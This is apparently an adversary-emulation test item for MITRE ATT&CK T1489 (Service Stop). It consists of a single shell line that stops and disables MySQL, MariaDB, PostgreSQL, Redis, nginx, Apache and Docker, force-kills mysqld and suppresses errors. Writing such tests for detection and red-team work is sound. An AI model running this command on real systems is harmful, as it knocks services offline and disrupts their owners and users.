# title: Databases and web servers are stopped
# technique: T1489

for service in mysql mariadb postgresql redis nginx apache2 docker; do systemctl stop "$service" 2>/dev/null; systemctl disable "$service" 2>/dev/null; done; pkill -9 mysqld; true
